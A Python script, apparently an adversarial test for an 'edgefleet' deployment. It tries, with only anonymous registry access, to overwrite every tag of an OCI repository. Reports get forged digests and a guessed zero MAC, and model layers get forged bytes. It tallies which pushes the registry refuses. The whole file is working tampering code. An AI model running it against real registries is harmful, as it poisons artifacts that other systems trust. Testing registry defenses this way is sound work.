"""Run inside a pod on the real node, with no Kubernetes rights and no registry credentials: try to overwrite every
tag of an edgefleet repository. A report (JSON, sealed or not) is replaced by one naming a forged digest; any other
layer (a variant) by forged bytes. Like any client it answers the registry's token challenge (anonymously), so it
reads what anyone may read; a push the registry refuses is counted, not fatal. Standard library only. Prints a JSON
summary: the tags overwritten (reports, variants) and the pushes refused.

Usage: python attacker_push.py REGISTRY REPOSITORY"""

from __future__ import annotations

import hashlib
import json
import re
import sys
import urllib.error
import urllib.parse
import urllib.request

MANIFEST = "application/vnd.oci.image.manifest.v1+json"
FORGED_MODEL = b"forged model: always answers 7\n" * 64
TIMEOUT = 10


class Refused(Exception):
    pass


def _call(url: str, method: str = "GET", data: bytes | None = None, headers: dict | None = None):
    """The request, once more with an anonymous token when the registry asks for one; Refused on 401/403."""
    headers = dict(headers or {})
    for _ in range(2):
        req = urllib.request.Request(url, data=data, method=method, headers=headers)
        try:
            return urllib.request.urlopen(req, timeout=TIMEOUT)
        except urllib.error.HTTPError as err:
            challenge = dict(re.findall(r'(\w+)="([^"]*)"', err.headers.get("WWW-Authenticate", "")))
            if err.code not in (401, 403):
                raise
            if "Authorization" in headers or "realm" not in challenge:
                raise Refused(f"{method} {url}: HTTP {err.code}") from err
            query = urllib.parse.urlencode({k: challenge[k] for k in ("service", "scope") if k in challenge})
            with urllib.request.urlopen(f"{challenge['realm']}?{query}", timeout=TIMEOUT) as answer:
                headers["Authorization"] = f"Bearer {json.load(answer)['token']}"
    raise AssertionError("unreachable")


def _push_blob(base: str, registry: str, data: bytes) -> str:
    digest = "sha256:" + hashlib.sha256(data).hexdigest()
    with _call(f"{base}/blobs/uploads/", "POST") as resp:
        location = resp.headers["Location"]
    location = location if location.startswith("http") else f"http://{registry}{location}"
    joiner = "&" if "?" in location else "?"
    _call(f"{location}{joiner}digest={digest}", "PUT", data, {"Content-Type": "application/octet-stream"}).close()
    return digest


def _forged_report(original: bytes, forged_digest: str) -> bytes | None:
    """The report with every variant's digest replaced; None when ``original`` is not a report."""
    try:
        doc = json.loads(original)
    except ValueError:
        return None
    sealed = isinstance(doc, dict) and doc.get("kind") == "SealedReport"
    report = json.loads(doc["report"]) if sealed else doc
    if not isinstance(report, dict):
        return None
    report = _swap_digests(report, forged_digest)
    if sealed:  # the envelope kept, the MAC guessed
        return json.dumps({**doc, "report": json.dumps(report), "mac": "0" * 64}).encode()
    return json.dumps(report).encode()


def _swap_digests(node, forged_digest: str):
    """``node`` with every ``digest`` field, at any depth, naming ``forged_digest``."""
    if isinstance(node, dict):
        return {k: forged_digest if k == "digest" and isinstance(v, str) else _swap_digests(v, forged_digest)
                for k, v in node.items()}
    if isinstance(node, list):
        return [_swap_digests(v, forged_digest) for v in node]
    return node


def main(registry: str, repository: str) -> dict:
    base = f"http://{registry}/v2/{repository}"
    with _call(f"{base}/tags/list") as resp:
        tags = json.load(resp).get("tags") or []
    forged_digest = "sha256:" + hashlib.sha256(FORGED_MODEL).hexdigest()
    done = {"reports": [], "variants": [], "refused": 0, "tags": len(tags), "forgedDigest": forged_digest}
    try:
        _push_blob(base, registry, FORGED_MODEL)
    except Refused:
        done["refused"] += 1
    for tag in tags:
        with _call(f"{base}/manifests/{tag}", headers={"Accept": MANIFEST}) as resp:
            manifest = json.load(resp)
        if len(manifest.get("layers", [])) != 1:
            continue
        layer = manifest["layers"][0]
        with _call(f"{base}/blobs/{layer['digest']}") as resp:
            original = resp.read(64 << 20)
        forged = _forged_report(original, forged_digest) if len(original) < (1 << 20) else None
        kind = "reports" if forged is not None else "variants"
        data = forged if forged is not None else FORGED_MODEL
        try:
            layer.update(digest=_push_blob(base, registry, data), size=len(data))
            manifest.setdefault("annotations", {})["io.edgefleet.digest"] = forged_digest
            body = json.dumps(manifest).encode()
            _call(f"{base}/manifests/{tag}", "PUT", body, {"Content-Type": MANIFEST}).close()
        except Refused:
            done["refused"] += 1
            continue
        done[kind].append(tag)
    return done


if __name__ == "__main__":
    print(json.dumps(main(sys.argv[1], sys.argv[2])))
